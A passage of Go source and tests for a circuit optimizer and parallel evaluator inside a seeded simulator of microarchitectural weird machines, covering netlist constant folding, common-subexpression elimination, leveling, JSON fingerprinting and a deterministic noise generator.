					t.Fatalf("trial %d: gate %d in level group %d but Level=%d", trial, gi, li+1, g.Level)
				}
				if ready[g.A] >= g.Level || (g.B >= 0 && ready[g.B] >= g.Level) {
					t.Fatalf("trial %d: gate %d reads an operand of its own or a later level", trial, gi)
				}
				ready[g.Out] = g.Level
			}
		}
		if len(seen) != len(plan.Gates) {
			t.Fatalf("trial %d: levels cover %d of %d gates", trial, len(seen), len(plan.Gates))
		}
	}
}

// TestStreamSharing: structurally identical gates must carry the same
// noise-stream id in the unoptimized walk, and every plan gate's
// stream must appear among the source streams — the alignment that
// makes serial-vs-optimized byte equality possible.
func TestStreamSharing(t *testing.T) {
	s := core.NewCircuitSpec(2)
	s.And(0, 1)
	s.And(0, 1)
	or := s.Or(core.WireID(2), core.WireID(3))
	s.Output(or)

	streams, err := circopt.StreamIDs(s)
	if err != nil {
		t.Fatal(err)
	}
	if streams[0] != streams[1] {
		t.Errorf("duplicate gates carry different streams: %x vs %x", streams[0], streams[1])
	}
	plan, err := circopt.Optimize(s, circopt.Options{})
	if err != nil {
		t.Fatal(err)
	}
	source := map[uint64]bool{}
	for _, id := range streams {
		source[id] = true
	}
	for _, g := range plan.Gates {
		if !source[g.Stream] {
			t.Errorf("plan gate stream %x missing from source streams", g.Stream)
		}
	}
}

// TestFingerprintAndRoundTrip: the content address is stable, binding-
// sensitive, and survives the canonical JSON round trip.
func TestFingerprintAndRoundTrip(t *testing.T) {
	rng := noise.NewRNG(13)
	spec := randomSpec(rng, 4, 24)

	fp1, err := circopt.Fingerprint(spec, circopt.Options{})
	if err != nil {
		t.Fatal(err)
	}
	decoded, err := circopt.EncodeSpec(spec).DecodeSpec()
	if err != nil {
		t.Fatal(err)
	}
	fp2, err := circopt.Fingerprint(decoded, circopt.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if fp1 != fp2 {
		t.Errorf("round-tripped netlist changed fingerprint: %s vs %s", fp1, fp2)
	}
	fp3, err := circopt.Fingerprint(spec, circopt.Options{Bind: map[core.WireID]int{0: 1}})
	if err != nil {
		t.Fatal(err)
	}
	if fp3 == fp1 {
		t.Error("binding did not change the fingerprint")
	}
	other := randomSpec(rng, 4, 24)
	fp4, err := circopt.Fingerprint(other, circopt.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if fp4 == fp1 {
		t.Error("distinct netlists share a fingerprint")
	}
}

// TestCache: hit/miss accounting, shared plan identity and LRU
// eviction.
func TestCache(t *testing.T) {
	rng := noise.NewRNG(17)
	cache := circopt.NewCache(2, nil)
	a := randomSpec(rng, 3, 16)

	p1, hit, err := cache.Plan(a, circopt.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if hit {
		t.Error("first lookup reported a hit")
	}
	p2, hit, err := cache.Plan(a, circopt.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if !hit {
		t.Error("second lookup missed")
	}
	if p1 != p2 {
		t.Error("cache returned a different plan instance on hit")
	}

	// Evict a by inserting two more plans into the size-2 cache.
	if _, _, err := cache.Plan(randomSpec(rng, 3, 16), circopt.Options{}); err != nil {
		t.Fatal(err)
	}
	if _, _, err := cache.Plan(randomSpec(rng, 3, 16), circopt.Options{}); err != nil {
		t.Fatal(err)
	}
	if _, hit, _ := cache.Plan(a, circopt.Options{}); hit {
		t.Error("evicted plan still reported as a hit")
	}
	hits, misses, entries := cache.Stats()
	if hits != 1 || entries != 2 {
		t.Errorf("Stats = hits %d entries %d, want 1 and 2 (misses %d)", hits, entries, misses)
	}
}

// TestPresets: every preset builds, validates and survives a plan.
func TestPresets(t *testing.T) {
	for _, name := range circopt.PresetNames() {
		spec, err := circopt.Preset(name)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if err := spec.Validate(); err != nil {
			t.Fatalf("%s: invalid netlist: %v", name, err)
		}
		plan, err := circopt.Optimize(spec, circopt.Options{})
		if err != nil {
			t.Fatalf("%s: Optimize: %v", name, err)
		}
		if plan.Stats.Eliminated() == 0 {
			t.Errorf("%s: optimizer eliminated nothing (stats %+v)", name, plan.Stats)
		}
	}
	if _, err := circopt.Preset("nope"); err == nil {
		t.Error("unknown preset accepted")
	}
}
