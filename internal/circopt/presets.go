package circopt

import (
	"fmt"
	"sort"

	"uwm/internal/core"
	"uwm/internal/walu"
)

// presets are the named, ready-made netlists the engine's circuit job
// type and the CircuitThroughput experiment evaluate. All of them come
// from package walu's arithmetic builders.
var presets = map[string]func() (*core.CircuitSpec, error){
	"adder8":    func() (*core.CircuitSpec, error) { return walu.AdderSpec(8, false) },
	"adder16":   func() (*core.CircuitSpec, error) { return walu.AdderSpec(16, false) },
	"adder32":   func() (*core.CircuitSpec, error) { return walu.WideAdderSpec(32) },
	"sha1round": walu.SHA1RoundSpec,
}

// Preset builds a named netlist: adder8, adder16, adder32 (ripple-
// carry adders over 2n inputs) or sha1round (one SHA-1 Ch-round over
// a,b,c,d,e,w,k words — §5's weird SHA-1, one round as a flat
// netlist).
func Preset(name string) (*core.CircuitSpec, error) {
	build, ok := presets[name]
	if !ok {
		return nil, fmt.Errorf("circopt: unknown circuit preset %q (have %v)", name, PresetNames())
	}
	return build()
}

// PresetNames returns the available preset names, sorted.
func PresetNames() []string {
	names := make([]string, 0, len(presets))
	for n := range presets {
		names = append(names, n)
	}
	sort.Strings(names)
	return names
}
