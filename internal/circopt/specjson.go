package circopt

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"sort"

	"uwm/internal/core"
)

// SpecJSON is the canonical wire format of a netlist: the shape the
// engine's circuit job type accepts and the byte form the plan-cache
// fingerprint hashes. Gate output wires are implied by position (gate
// i defines wire NumInputs+i, the only layout Validate accepts), so
// they are not serialized.
type SpecJSON struct {
	NumInputs int        `json:"num_inputs"`
	Gates     []GateJSON `json:"gates"`
	Outputs   []int      `json:"outputs"`
}

// GateJSON is one serialized netlist gate. B is meaningful only for
// "and" and "or".
type GateJSON struct {
	Op string `json:"op"`
	A  int    `json:"a"`
	B  int    `json:"b"`
}

// EncodeSpec converts a netlist to its canonical JSON shape.
func EncodeSpec(spec *core.CircuitSpec) *SpecJSON {
	out := &SpecJSON{
		NumInputs: spec.NumInputs,
		Gates:     make([]GateJSON, len(spec.Gates)),
		Outputs:   make([]int, len(spec.Outputs)),
	}
	for i, g := range spec.Gates {
		out.Gates[i] = GateJSON{Op: g.Op.String(), A: int(g.A), B: int(g.B)}
	}
	for i, w := range spec.Outputs {
		out.Outputs[i] = int(w)
	}
	return out
}

// DecodeSpec converts the canonical JSON shape back into a validated
// netlist.
func (sj *SpecJSON) DecodeSpec() (*core.CircuitSpec, error) {
	spec := core.NewCircuitSpec(sj.NumInputs)
	for i, g := range sj.Gates {
		out := core.WireID(sj.NumInputs + i)
		gate := core.CircuitGate{A: core.WireID(g.A), B: core.WireID(g.B), Out: out}
		switch g.Op {
		case "assign":
			gate.Op = core.CircAssign
			gate.B = 0
		case "and":
			gate.Op = core.CircAnd
		case "or":
			gate.Op = core.CircOr
		case "not":
			gate.Op = core.CircNot
			gate.B = 0
		default:
			return nil, fmt.Errorf("circopt: gate %d has unknown op %q", i, g.Op)
		}
		spec.Gates = append(spec.Gates, gate)
	}
	for _, w := range sj.Outputs {
		spec.Output(core.WireID(w))
	}
	if err := spec.Validate(); err != nil {
		return nil, fmt.Errorf("circopt: decoded netlist invalid: %w", err)
	}
	return spec, nil
}

// Fingerprint content-addresses (netlist, options): sha256 over the
// canonical JSON of the spec plus the sorted constant bindings, hex
// encoded — the same canonicalize-then-hash discipline as the cluster
// gateway's result cache, so equal circuits collide onto one plan no
// matter how the caller built or transported them.
func Fingerprint(spec *core.CircuitSpec, opts Options) (string, error) {
	binds := make([][2]int, 0, len(opts.Bind))
	for w, b := range opts.Bind {
		binds = append(binds, [2]int{int(w), b & 1})
	}
	sort.Slice(binds, func(i, j int) bool { return binds[i][0] < binds[j][0] })
	canonical, err := json.Marshal(struct {
		Spec *SpecJSON `json:"spec"`
		Bind [][2]int  `json:"bind,omitempty"`
	}{Spec: EncodeSpec(spec), Bind: binds})
	if err != nil {
		return "", fmt.Errorf("circopt: canonicalizing netlist: %w", err)
	}
	sum := sha256.Sum256(canonical)
	return hex.EncodeToString(sum[:]), nil
}
