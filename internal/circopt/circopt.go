// Package circopt compiles boolean netlists (core.CircuitSpec) into
// optimized, leveled execution plans for the gate-by-gate weird-circuit
// evaluators. The paper's weird circuits (§4, §5.2) chain individual
// gate activations serially, paying full gate latency per wire even
// when wires are data-independent; circopt recovers that structure at
// compile time and hands it to a scheduler.
//
// The pipeline is:
//
//   - constant folding: inputs bound to constants via Options.Bind are
//     propagated through the netlist (AND with 0 folds to 0, OR with 1
//     to 1, single-constant operands collapse to wiring);
//   - copy propagation: CircAssign gates are pure wiring in the
//     gate-by-gate evaluator and are dissolved into their sources;
//   - common-subexpression elimination: structurally identical gates
//     (same op, same resolved operand wires, in that order) are merged
//     into one;
//   - dead-wire elimination: gates not transitively feeding an output
//     are dropped;
//   - topological leveling: every surviving gate is assigned the level
//     max(level of operands)+1, so all gates within a level are
//     data-independent and may execute in any order — or in parallel.
//
// Determinism is the load-bearing invariant (see DESIGN.md): every
// gate carries a noise-stream id derived from its *value number* — a
// content hash over (op, operand streams) — and evaluators reseed the
// executing machine with noise.SubSeed(evalSeed, stream) before each
// activation. Because merged duplicates share a value number, they
// would have drawn the same noise and produced the same bit; because
// every activation is reseeded, results do not depend on which machine
// runs a gate or in which order. An unoptimized serial walk and an
// optimized level-parallel run are therefore byte-identical, even when
// individual gates err under the seeded noise model. Plans built with
// non-empty Options.Bind trade that alignment away for folding (the
// gates they remove would still have been noisy in the serial walk)
// and are checked against the architectural golden instead.
package circopt

import (
	"encoding/binary"
	"fmt"
	"hash/fnv"

	"uwm/internal/core"
)

// Options tunes plan construction.
type Options struct {
	// Bind fixes input wires to constant bits before optimization;
	// constant folding then removes every gate whose value the
	// bindings decide. A plan built with bindings is logically
	// equivalent to the source netlist evaluated at the bound inputs,
	// but is NOT noise-stream aligned with an unbound serial
	// evaluation: compare its outputs against the architectural
	// golden, not against a serial weird run.
	Bind map[core.WireID]int
}

// PlanGate is one surviving gate of an optimized plan. A and B are
// value-array slots (B is -1 for NOT); Out is the slot the result is
// stored into. Stream is the gate's noise-stream id: evaluators reseed
// the machine with noise.SubSeed(evalSeed, Stream) immediately before
// the activation.
type PlanGate struct {
	Op     core.CircuitOp
	A, B   int
	Out    int
	Stream uint64
	Level  int
}

// Stats counts what each optimization pass did.
type Stats struct {
	// GatesIn is the source netlist's gate count, assigns included.
	GatesIn int `json:"gates_in"`
	// Assigns is how many source gates were pure wiring (CircAssign),
	// dissolved by copy propagation. They cost nothing in either the
	// serial or the planned evaluator.
	Assigns int `json:"assigns"`
	// Folded is how many gates constant folding removed.
	Folded int `json:"folded"`
	// Dupes is how many gates CSE merged into an earlier twin.
	Dupes int `json:"dupes"`
	// Dead is how many gates dead-wire elimination dropped.
	Dead int `json:"dead"`
	// GatesOut is the surviving gate count — the activations one
	// evaluation actually pays for.
	GatesOut int `json:"gates_out"`
	// Levels is the plan's depth; MaxWidth the widest level — the
	// available intra-circuit parallelism.
	Levels   int `json:"levels"`
	MaxWidth int `json:"max_width"`
}

// Eliminated returns the total number of gate activations the plan
// saves per evaluation versus the unoptimized serial walk.
func (s Stats) Eliminated() int { return s.Folded + s.Dupes + s.Dead }

// Plan is an optimized, leveled execution schedule for one netlist.
// The value array an evaluation works over is laid out as
// [inputs][const 0][const 1][gate outputs]; NewValues builds it.
type Plan struct {
	NumInputs int
	// Slots is the value-array length.
	Slots int
	Gates []PlanGate
	// Levels holds indices into Gates grouped by topological level;
	// all gates of one level are data-independent.
	Levels [][]int
	// Outputs maps each source-netlist output to its value-array slot
	// (which may be an input slot or a constant slot after folding).
	Outputs []int
	// Fingerprint is the content address of (source netlist, options):
	// the plan-cache key. See Fingerprint.
	Fingerprint string
	Stats       Stats
}

// NewValues builds the evaluation value array with the inputs and the
// two constant slots filled in.
func (p *Plan) NewValues(inputs []int) ([]int, error) {
	if len(inputs) != p.NumInputs {
		return nil, fmt.Errorf("circopt: plan wants %d inputs, got %d", p.NumInputs, len(inputs))
	}
	vals := make([]int, p.Slots)
	for i, v := range inputs {
		vals[i] = v & 1
	}
	vals[p.NumInputs] = 0
	vals[p.NumInputs+1] = 1
	return vals, nil
}

// Golden evaluates the plan architecturally (no weird gates) — the
// reference the circuit job type and tests compare weird outputs
// against.
func (p *Plan) Golden(inputs []int) ([]int, error) {
	vals, err := p.NewValues(inputs)
	if err != nil {
		return nil, err
	}
	for _, g := range p.Gates {
		switch g.Op {
		case core.CircAnd:
			vals[g.Out] = vals[g.A] & vals[g.B]
		case core.CircOr:
			vals[g.Out] = vals[g.A] | vals[g.B]
		case core.CircNot:
			vals[g.Out] = 1 - vals[g.A]&1
		default:
			return nil, fmt.Errorf("circopt: plan holds unexpected op %v", g.Op)
		}
	}
	outs := make([]int, len(p.Outputs))
	for i, slot := range p.Outputs {
		outs[i] = vals[slot]
	}
	return outs, nil
}

// Value-number hashing: FNV-1a over tagged little-endian words. The
// tag keeps inputs, constants and gates in disjoint id spaces.
func vnHash(parts ...uint64) uint64 {
	h := fnv.New64a()
	var buf [8]byte
	for _, p := range parts {
		binary.LittleEndian.PutUint64(buf[:], p)
		h.Write(buf[:])
	}
	return h.Sum64()
}

func vnInput(i int) uint64   { return vnHash(1, uint64(i)) }
func vnConst(bit int) uint64 { return vnHash(2, uint64(bit)) }
func vnGate(op core.CircuitOp, a, b uint64) uint64 {
	return vnHash(3, uint64(op), a, b)
}

// valDesc is the resolved value of one source wire during analysis.
type valDesc struct {
	kind int // 0 input, 1 const, 2 gate
	bit  int // const value
	slot int // value-array slot carrying the value
	vn   uint64
}

const (
	valInput = iota
	valConst
	valGate
)

// protoGate is a gate class before dead-code elimination.
type protoGate struct {
	op   core.CircuitOp
	a, b int // slots (pre-DCE numbering)
	vn   uint64
}

// analysis is the shared value-numbering pass behind Optimize and
// StreamIDs.
type analysis struct {
	spec    *core.CircuitSpec
	desc    []valDesc // per source wire
	protos  []protoGate
	classes map[uint64]int // vn -> proto index
	streams []uint64       // per source gate; 0 for assigns and folded gates
	stats   Stats
}

func (an *analysis) constDesc(bit int) valDesc {
	n := an.spec.NumInputs
	slot := n
	if bit&1 == 1 {
		slot = n + 1
	}
	return valDesc{kind: valConst, bit: bit & 1, slot: slot, vn: vnConst(bit & 1)}
}

// newGate interns a gate class for (op, a, b), merging structural
// duplicates (CSE). Hash collisions — two distinct classes landing on
// one value number — are resolved by deterministic linear probing, so
// a collision can never merge non-identical gates.
func (an *analysis) newGate(op core.CircuitOp, a, b valDesc) valDesc {
	n := an.spec.NumInputs
	vn := vnGate(op, a.vn, b.vn)
	for {
		idx, ok := an.classes[vn]
		if !ok {
			break
		}
		p := an.protos[idx]
		if p.op == op && p.a == a.slot && p.b == b.slot {
			an.stats.Dupes++
			return valDesc{kind: valGate, slot: n + 2 + idx, vn: p.vn}
		}
		vn++
	}
	an.protos = append(an.protos, protoGate{op: op, a: a.slot, b: b.slot, vn: vn})
	an.classes[vn] = len(an.protos) - 1
	return valDesc{kind: valGate, slot: n + 2 + len(an.protos) - 1, vn: vn}
}

// analyze runs folding + copy propagation + CSE over the netlist.
func analyze(spec *core.CircuitSpec, opts Options) (*analysis, error) {
	if err := spec.Validate(); err != nil {
		return nil, fmt.Errorf("circopt: %w", err)
	}
	n := spec.NumInputs
	for w, b := range opts.Bind {
		if int(w) < 0 || int(w) >= n {
			return nil, fmt.Errorf("circopt: bind of non-input wire %d", w)
		}
		if b != 0 && b != 1 {
			return nil, fmt.Errorf("circopt: bind of wire %d to non-bit %d", w, b)
		}
	}
	an := &analysis{
		spec:    spec,
		desc:    make([]valDesc, spec.NumWires()),
		classes: make(map[uint64]int),
		streams: make([]uint64, len(spec.Gates)),
		stats:   Stats{GatesIn: len(spec.Gates)},
	}
	for i := 0; i < n; i++ {
		if b, ok := opts.Bind[core.WireID(i)]; ok {
			an.desc[i] = an.constDesc(b)
		} else {
			an.desc[i] = valDesc{kind: valInput, slot: i, vn: vnInput(i)}
		}
	}
	for gi, g := range spec.Gates {
		a := an.desc[g.A]
		var out valDesc
		switch g.Op {
		case core.CircAssign:
			an.stats.Assigns++
			out = a
		case core.CircNot:
			if a.kind == valConst {
				an.stats.Folded++
				out = an.constDesc(1 - a.bit)
			} else {
				out = an.newGate(core.CircNot, a, valDesc{slot: -1})
			}
		case core.CircAnd, core.CircOr:
			b := an.desc[g.B]
			out = an.foldAndOr(g.Op, a, b)
		default:
			return nil, fmt.Errorf("circopt: gate %d has unknown op %v", gi, g.Op)
		}
		if out.kind == valGate {
			an.streams[gi] = out.vn
		}
		an.desc[g.Out] = out
	}
	return an, nil
}

// foldAndOr applies the AND/OR constant-folding rules, falling back to
// interning a real gate.
func (an *analysis) foldAndOr(op core.CircuitOp, a, b valDesc) valDesc {
	if a.kind == valConst && b.kind == valConst {
		an.stats.Folded++
		if op == core.CircAnd {
			return an.constDesc(a.bit & b.bit)
		}
		return an.constDesc(a.bit | b.bit)
	}
	if a.kind == valConst || b.kind == valConst {
		c, x := a, b
		if b.kind == valConst {
			c, x = b, a
		}
		an.stats.Folded++
		switch {
		case op == core.CircAnd && c.bit == 0:
			return an.constDesc(0)
		case op == core.CircAnd && c.bit == 1:
			return x
		case op == core.CircOr && c.bit == 1:
			return an.constDesc(1)
		default: // OR with 0
			return x
		}
	}
	return an.newGate(op, a, b)
}

// Optimize compiles a netlist into an optimized, leveled plan.
func Optimize(spec *core.CircuitSpec, opts Options) (*Plan, error) {
	an, err := analyze(spec, opts)
	if err != nil {
		return nil, err
	}
	n := spec.NumInputs

	// Dead-wire elimination: keep only gate classes transitively
	// reachable from an output slot.
	live := make([]bool, len(an.protos))
	var mark func(slot int)
	mark = func(slot int) {
		if slot < n+2 {
			return // input or constant
		}
		idx := slot - n - 2
		if live[idx] {
			return
		}
		live[idx] = true
		mark(an.protos[idx].a)
		if an.protos[idx].b >= 0 {
			mark(an.protos[idx].b)
		}
	}
	for _, w := range spec.Outputs {
		mark(an.desc[w].slot)
	}

	// Renumber surviving gates (stable order) and remap slots.
	remap := make([]int, len(an.protos))
	kept := 0
	for i := range an.protos {
		if live[i] {
			remap[i] = kept
			kept++
		} else {
			remap[i] = -1
			an.stats.Dead++
		}
	}
	mapSlot := func(slot int) int {
		if slot < n+2 {
			return slot
		}
		return n + 2 + remap[slot-n-2]
	}

	plan := &Plan{
		NumInputs: n,
		Slots:     n + 2 + kept,
		Gates:     make([]PlanGate, 0, kept),
	}
	// Leveling: inputs and constants sit at level 0; a gate sits one
	// past its deepest operand. Proto order is topological, so operand
	// levels are always already known.
	level := make([]int, plan.Slots)
	maxLevel := 0
	for i, p := range an.protos {
		if !live[i] {
			continue
		}
		g := PlanGate{
			Op:     p.op,
			A:      mapSlot(p.a),
			B:      -1,
			Out:    n + 2 + remap[i],
			Stream: p.vn,
		}
		lvl := level[g.A] + 1
		if p.b >= 0 {
			g.B = mapSlot(p.b)
			if l := level[g.B] + 1; l > lvl {
				lvl = l
			}
		}
		g.Level = lvl
		level[g.Out] = lvl
		if lvl > maxLevel {
			maxLevel = lvl
		}
		plan.Gates = append(plan.Gates, g)
	}
	plan.Levels = make([][]int, maxLevel)
	for i, g := range plan.Gates {
		plan.Levels[g.Level-1] = append(plan.Levels[g.Level-1], i)
	}
	for _, w := range spec.Outputs {
		plan.Outputs = append(plan.Outputs, mapSlot(an.desc[w].slot))
	}

	an.stats.GatesOut = kept
	an.stats.Levels = maxLevel
	for _, lv := range plan.Levels {
		if len(lv) > an.stats.MaxWidth {
			an.stats.MaxWidth = len(lv)
		}
	}
	plan.Stats = an.stats
	plan.Fingerprint, err = Fingerprint(spec, opts)
	if err != nil {
		return nil, err
	}
	return plan, nil
}

// StreamIDs returns the per-gate noise-stream ids of an *unoptimized*
// serial walk over the netlist: each non-assign gate's value number
// under empty bindings. Duplicate gates share a stream, which is what
// keeps the serial walk byte-aligned with a CSE'd plan — the merged
// twin would have drawn the same noise and produced the same bit.
// Assign gates (pure wiring) carry stream 0 and are never reseeded.
func StreamIDs(spec *core.CircuitSpec) ([]uint64, error) {
	an, err := analyze(spec, Options{})
	if err != nil {
		return nil, err
	}
	return an.streams, nil
}
