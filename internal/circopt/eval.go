package circopt

import (
	"fmt"
	"sync"
	"sync/atomic"

	"uwm/internal/core"
	"uwm/internal/metrics"
	"uwm/internal/noise"
)

// GateLib is the weird-gate execution surface a plan evaluator drives:
// one logical netlist operation at a time, plus access to the machine
// so the evaluator can re-pin its noise stream per activation and open
// profiling spans. skelly.Skelly implements it.
type GateLib interface {
	// GateOp executes one netlist gate operation on the weird machine
	// and returns the (possibly noisy) result bit. CircAssign must be
	// pure wiring: no gate activation, input returned unchanged.
	GateOp(op core.CircuitOp, a, b int) (int, error)
	// Machine returns the library's underlying machine.
	Machine() *core.Machine
}

// evalGate runs one plan gate with the reseed discipline: the machine's
// noise stream is re-pinned to the gate's content-derived stream id, so
// the result is a pure function of (machine construction, evalSeed,
// gate identity) — independent of which worker runs it and of what ran
// before.
func evalGate(lib GateLib, g *PlanGate, vals []int, evalSeed uint64) error {
	lib.Machine().ReseedNoise(noise.SubSeed(evalSeed, g.Stream))
	b := 0
	if g.B >= 0 {
		b = vals[g.B]
	}
	v, err := lib.GateOp(g.Op, vals[g.A], b)
	if err != nil {
		return err
	}
	vals[g.Out] = v
	return nil
}

// EvalPlan evaluates a plan serially on one gate library. Because of
// the per-gate reseed discipline this returns exactly what a pooled
// evaluation of the same plan returns.
func EvalPlan(lib GateLib, plan *Plan, inputs []int, evalSeed uint64) ([]int, error) {
	vals, err := plan.NewValues(inputs)
	if err != nil {
		return nil, err
	}
	sp := lib.Machine().BeginSpan("circopt:eval")
	defer lib.Machine().EndSpan(sp)
	for i := range plan.Gates {
		if err := evalGate(lib, &plan.Gates[i], vals, evalSeed); err != nil {
			return nil, err
		}
	}
	return gather(plan, vals), nil
}

// EvalSpec evaluates an *unoptimized* netlist serially, gate by gate in
// source order — the baseline the CircuitThroughput experiment compares
// plans against. Noise streams are the gates' value numbers (see
// StreamIDs), which keeps this walk byte-aligned with optimized plans
// of the same netlist: duplicate gates draw identical noise, assigns
// cost nothing in either form, and dead gates cannot influence live
// ones because every activation is independently reseeded.
func EvalSpec(lib GateLib, spec *core.CircuitSpec, inputs []int, evalSeed uint64) ([]int, error) {
	streams, err := StreamIDs(spec)
	if err != nil {
		return nil, err
	}
	if len(inputs) != spec.NumInputs {
		return nil, fmt.Errorf("circopt: netlist wants %d inputs, got %d", spec.NumInputs, len(inputs))
	}
	vals := make([]int, spec.NumWires())
	for i, v := range inputs {
		vals[i] = v & 1
	}
	sp := lib.Machine().BeginSpan("circopt:eval-serial")
	defer lib.Machine().EndSpan(sp)
	for i, g := range spec.Gates {
		if g.Op == core.CircAssign {
			vals[g.Out] = vals[g.A]
			continue
		}
		lib.Machine().ReseedNoise(noise.SubSeed(evalSeed, streams[i]))
		v, err := lib.GateOp(g.Op, vals[g.A], vals[g.B])
		if err != nil {
			return nil, err
		}
		vals[g.Out] = v
	}
	outs := make([]int, len(spec.Outputs))
	for i, w := range spec.Outputs {
		outs[i] = vals[w]
	}
	return outs, nil
}

func gather(plan *Plan, vals []int) []int {
	outs := make([]int, len(plan.Outputs))
	for i, slot := range plan.Outputs {
		outs[i] = vals[slot]
	}
	return outs
}

// PoolConfig parameterizes a Pool.
type PoolConfig struct {
	// Workers is the pool size (default 1).
	Workers int
	// Build constructs worker i's gate library. It MUST build
	// byte-identical libraries for every worker — same machine seed,
	// same fixed construction order — exactly like the engine's rig
	// builder; that is what makes a P-worker run byte-identical to a
	// serial one (the TestSerialPooledDeterminism discipline).
	Build func(worker int) (GateLib, error)
	// Metrics, when non-nil, receives the pool's eval/gate-op
	// counters.
	Metrics *metrics.Registry
}

// Pool evaluates plans across a small pool of identically constructed
// gate libraries: Eval fans the gates of each topological level over
// the workers (level parallelism); EvalBatch fans whole input vectors
// over the workers (batch parallelism). Both return byte-identical
// results for every pool size, including 1, and identical to the
// serial EvalPlan — each gate activation is independently reseeded
// from (evalSeed, gate stream), so neither placement nor order can
// shift its noise draws.
type Pool struct {
	libs []GateLib

	evals   atomic.Uint64
	gateOps atomic.Uint64
}

// NewPool builds the worker libraries in index order.
func NewPool(cfg PoolConfig) (*Pool, error) {
	if cfg.Workers <= 0 {
		cfg.Workers = 1
	}
	if cfg.Build == nil {
		return nil, fmt.Errorf("circopt: pool needs a Build callback")
	}
	p := &Pool{libs: make([]GateLib, cfg.Workers)}
	for i := range p.libs {
		lib, err := cfg.Build(i)
		if err != nil {
			return nil, fmt.Errorf("circopt: building pool worker %d: %w", i, err)
		}
		p.libs[i] = lib
	}
	if cfg.Metrics != nil {
		cfg.Metrics.CounterFunc(MetricEvals, "plan evaluations by the pool", p.evals.Load)
		cfg.Metrics.CounterFunc(MetricGateOps, "gate activations scheduled by the pool", p.gateOps.Load)
	}
	return p, nil
}

// Workers returns the pool size.
func (p *Pool) Workers() int { return len(p.libs) }

// Lib returns worker i's gate library — the serial baseline of a
// comparison typically borrows worker 0.
func (p *Pool) Lib(i int) GateLib { return p.libs[i] }

// Eval evaluates one input vector with level parallelism: all gates of
// a topological level are data-independent, so the level is split
// across the workers and a barrier separates levels. Gate outputs land
// in disjoint slots of the shared value array, and the WaitGroup
// barrier orders every write before the reads of the next level.
func (p *Pool) Eval(plan *Plan, inputs []int, evalSeed uint64) ([]int, error) {
	vals, err := plan.NewValues(inputs)
	if err != nil {
		return nil, err
	}
	p.evals.Add(1)
	p.gateOps.Add(uint64(len(plan.Gates)))
	spans := make([]uint64, len(p.libs))
	for i, lib := range p.libs {
		spans[i] = lib.Machine().BeginSpan("circopt:eval-level")
	}
	defer func() {
		for i, lib := range p.libs {
			lib.Machine().EndSpan(spans[i])
		}
	}()
	// minChunk keeps narrow levels serial: below this many gates per
	// worker the per-level goroutine spawn and barrier cost more than
	// the parallelism recovers (a ripple-carry adder's levels are only
	// a handful of gates wide). The split is a pure scheduling choice —
	// any worker computes the same bit for any gate, so the chunking
	// cannot change results, only wall clock.
	const minChunk = 8
	errs := make([]error, len(p.libs))
	for _, level := range plan.Levels {
		workers := (len(level) + minChunk - 1) / minChunk
		if workers > len(p.libs) {
			workers = len(p.libs)
		}
		if workers < 1 {
			workers = 1
		}
		var wg sync.WaitGroup
		for w := 1; w < workers; w++ {
			lo := w * len(level) / workers
			hi := (w + 1) * len(level) / workers
			wg.Add(1)
			go func(w int, chunk []int) {
				defer wg.Done()
				for _, gi := range chunk {
					if err := evalGate(p.libs[w], &plan.Gates[gi], vals, evalSeed); err != nil {
						errs[w] = err
						return
					}
				}
			}(w, level[lo:hi])
		}
		// Worker 0's chunk runs on the calling goroutine: one fewer
		// spawn per level, and levels narrow enough for one worker
		// never touch the scheduler at all.
		for _, gi := range level[:len(level)/workers] {
			if err := evalGate(p.libs[0], &plan.Gates[gi], vals, evalSeed); err != nil {
				errs[0] = err
				break
			}
		}
		wg.Wait()
		for _, err := range errs {
			if err != nil {
				return nil, err
			}
		}
	}
	return gather(plan, vals), nil
}

// EvalBatch evaluates a batch of input vectors, fanning whole vectors
// over the workers. Vector v always derives its evaluation seed as
// SubSeed(evalSeed, v) regardless of which worker it lands on, so the
// output batch is byte-identical for every pool size and matches a
// serial loop of EvalPlan calls with the same per-vector seeds.
func (p *Pool) EvalBatch(plan *Plan, batch [][]int, evalSeed uint64) ([][]int, error) {
	outs := make([][]int, len(batch))
	errs := make([]error, len(p.libs))
	var wg sync.WaitGroup
	for w := range p.libs {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for v := w; v < len(batch); v += len(p.libs) {
				out, err := EvalPlan(p.libs[w], plan, batch[v], noise.SubSeed(evalSeed, uint64(v)))
				if err != nil {
					errs[w] = err
					return
				}
				outs[v] = out
			}
		}(w)
	}
	wg.Wait()
	for _, err := range errs {
		if err != nil {
			return nil, err
		}
	}
	p.evals.Add(uint64(len(batch)))
	p.gateOps.Add(uint64(len(batch) * len(plan.Gates)))
	return outs, nil
}
