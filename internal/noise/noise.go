// Package noise provides the deterministic randomness and system-noise
// model used by the microarchitectural simulator.
//
// Real μWMs (Evtyushkin et al., ASPLOS 2021) are perturbed by timer
// jitter, interrupts, frequency scaling, sibling-hyperthread activity and
// other processes evicting cache lines or aborting TSX transactions. This
// package reproduces those effects as explicit, seeded, configurable
// random processes so that experiments are repeatable while still showing
// the paper's sub-100% gate accuracies and heavy-tailed timing
// distributions.
package noise

import "math"

// RNG is a small, fast, deterministic pseudo-random number generator
// (splitmix64-seeded xorshift64*). It is intentionally not crypto-grade:
// the simulator needs speed and reproducibility, not unpredictability.
type RNG struct {
	state uint64
}

// NewRNG returns an RNG seeded from seed. Two RNGs with the same seed
// produce identical streams.
func NewRNG(seed uint64) *RNG {
	// splitmix64 step so that small/zero seeds still give good streams.
	z := seed + 0x9e3779b97f4a7c15
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	z ^= z >> 31
	if z == 0 {
		z = 0x2545f4914f6cdd1d
	}
	return &RNG{state: z}
}

// Reseed resets the generator so its subsequent stream is exactly what
// NewRNG(seed) would produce, discarding the current position.
func (r *RNG) Reseed(seed uint64) { *r = *NewRNG(seed) }

// State returns the generator's internal state, a resumable position in
// its stream. Pair with SetState to run a side computation (machine
// recalibration pinned to its own seed, say) without disturbing the
// surrounding stream.
func (r *RNG) State() uint64 { return r.state }

// SetState restores a position previously captured with State. Values
// not obtained from State are rejected when degenerate (zero would wedge
// the xorshift stream) by falling back to a reseed.
